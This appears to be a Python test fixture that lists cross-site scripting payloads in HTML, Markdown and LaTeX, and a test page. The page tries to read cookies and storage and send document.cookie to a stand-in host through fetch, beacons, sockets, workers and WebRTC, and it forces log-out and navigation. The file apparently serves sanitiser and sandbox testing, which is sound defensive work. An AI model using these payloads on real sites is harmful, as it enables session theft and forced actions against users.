"""Hostile texts and pages. ``THERE`` stands for an address that nobody may ever call, ``HERE`` for the site's own."""

from __future__ import annotations

IN_PAGES = (
    "<script src=THERE/1></script>",
    "<script>fetch('THERE/2')</script>",
    "<img src=THERE/3>",
    "<img src=/nowhere onerror=\"fetch('THERE/4');alert(4)\">",
    "<svg onload=\"alert(5)\"><image href='THERE/5'/></svg>",
    "<svg><script>alert(6)</script></svg>",
    "<iframe src=THERE/7></iframe>",
    '<iframe srcdoc="<script>parent.alert(8)</script>"></iframe>',
    "<object data=THERE/9></object><embed src=THERE/9b>",
    "<link rel=stylesheet href=THERE/10>",
    "<link rel=preconnect href=THERE/11><link rel=prefetch href=THERE/11b>",
    "<meta http-equiv=refresh content='0; url=THERE/12'>",
    "<base href=THERE/13/>",
    '<form action=THERE/14><input autofocus onfocus="this.form.submit()"></form>',
    "<style>@import 'THERE/15'; * {background: url(THERE/15b)}</style>",
    '<p style="background: url(THERE/16)">styled</p>',
    '<a href="javascript:alert(17)">link</a>',
    '<a href=" &#x6A;avascript:alert(18)">link</a>',
    '<a href="data:text/html,<script>alert(19)</script>">link</a>',
    "<div hx-get=THERE/20 hx-trigger=load>htmx</div>",
    "<div data-hx-get=/account data-hx-trigger=load data-hx-target=body>htmx</div>",
    '<div hx-on:htmx:load="alert(22)" hx-on--load="alert(22)">htmx</div>',
    "<div hx-ext=x hx-vals='js:{a: alert(23)}' hx-post=/log-out hx-trigger='every 1s'>htmx</div>",
    '<details open ontoggle="alert(24)"><summary>x</summary></details>',
    '<video poster=THERE/25><source src=THERE/25b onerror="alert(25)"></video>',
    '<audio src=THERE/26 autoplay onerror="alert(26)"></audio>',
    "<a id=config><a id=config name=csrf href=THERE/27>clobbered</a></a>",
    "<form id=main><input name=action><input name=querySelector></form>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(29)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(30)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(31)>">',
    '<button popovertarget=x formaction="javascript:alert(32)">x</button>',
    '<img srcset="THERE/33 1x"><picture><source srcset=THERE/33b><img></picture>',
    "![picture](THERE/m1)",
    "[link](javascript:alert('m2'))",
    "![x](x\"onerror=\"alert('m3'))",
    "<THERE/m4>\n\n[ref]: THERE/m4 'onmouseover=alert(4)'",
    "$\\href{javascript:alert('m5')}{x} \\includegraphics{THERE/m5} \\htmlData{hx-get=/account}{x}$",
)
"""For an organizer's page, Markdown with HTML in it."""

IN_FRAME = """<!doctype html>
<title>Results</title>
<link rel="preconnect" href="THERE/preconnect"><link rel="prefetch" href="THERE/prefetch">
<link rel="dns-prefetch" href="THERE/dns"><link rel="stylesheet" href="THERE/style">
<script src="THERE/script"></script>
<style>@import "THERE/import"; body { background: url(THERE/background) }</style>
<h1 id="verdict">The script did not run</h1>
<img src="THERE/img"><iframe src="THERE/frame"></iframe><object data="THERE/object"></object>
<form id="form" method="post" action="THERE/form" target="_top"><input name="stolen" value="1"></form>
<form id="out" method="post" action="HERE/log-out" target="_top"></form>
<script>
const got = [];
function attempt(name, act) {
  try { Promise.resolve(act()).then((value) => value && got.push(name), () => {}); } catch {}
}
const secret = () => { try { return encodeURIComponent(document.cookie); } catch { return "none"; } };
attempt("cookie", () => document.cookie);
attempt("storage", () => (localStorage.setItem("x", "1"), true));
attempt("session storage", () => (sessionStorage.setItem("x", "1"), true));
attempt("database", () => new Promise((yes, no) => {
  const opening = indexedDB.open("x"); opening.onsuccess = () => yes(true); opening.onerror = no; }));
attempt("parent", () => parent.document.body.innerHTML);
attempt("top", () => top.document.cookie);
attempt("dialog", () => { alert("dialog"); });
attempt("fetch", () => fetch("THERE/fetch?" + secret(), {mode: "no-cors"}).then(() => true));
attempt("account", () => fetch("HERE/account", {credentials: "include"}).then(() => true));
attempt("log out", () => fetch("HERE/log-out", {method: "POST", credentials: "include", mode: "no-cors"}).then(() => true));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", "THERE/xhr"); x.send("x"); });
attempt("beacon", () => { navigator.sendBeacon("THERE/beacon", "x"); });
attempt("image", () => { new Image().src = "THERE/image"; });
attempt("socket", () => { new WebSocket("THERE/socket".replace("http", "ws")); });
attempt("events", () => { new EventSource("THERE/events"); });
attempt("worker", () => { new Worker("THERE/worker"); });
attempt("blob worker", () => {
  new Worker(URL.createObjectURL(new Blob(["fetch('THERE/blob')"]))); });
attempt("service worker", () => navigator.serviceWorker.register("THERE/sw").then(() => true));
attempt("import", () => import("THERE/module.js").then(() => true));
attempt("font", () => new FontFace("x", "url(THERE/font)").load().then(() => true));
attempt("popup", () => open("THERE/popup"));
attempt("top navigation", () => { top.location = "THERE/top"; });
attempt("parent navigation", () => { parent.location.href = "THERE/parent"; });
attempt("form", () => document.getElementById("form").submit());
attempt("log-out form", () => document.getElementById("out").submit());
attempt("ping", () => {
  const a = Object.assign(document.createElement("a"), {href: "#", ping: "THERE/ping"});
  document.body.append(a); a.click(); });
attempt("speculation", () => {
  const s = Object.assign(document.createElement("script"), {type: "speculationrules"});
  s.textContent = JSON.stringify({prefetch: [{source: "list", urls: ["THERE/speculation"]}]});
  document.head.append(s); });
attempt("peer", async () => {
  const server = "turn:" + new URL("THERE").host + "?transport=tcp";
  const peer = new RTCPeerConnection({iceServers: [{urls: server, username: "x", credential: "x"}]});
  peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); });
setTimeout(() => {
  document.getElementById("verdict").textContent = "The script ran and got: " + (got.join(", ") || "nothing");
}, 700);
setTimeout(() => {
  const a = Object.assign(document.createElement("a"), {href: "THERE/download", download: "x"});
  document.body.append(a); a.click();
}, 2000);
</script>
"""

LEAVES = "<script>setTimeout(() => { location = 'THERE/leave?' + document.title; }, 200)</script>"
"""What a page does that only wants to take something with it: it goes away by itself."""
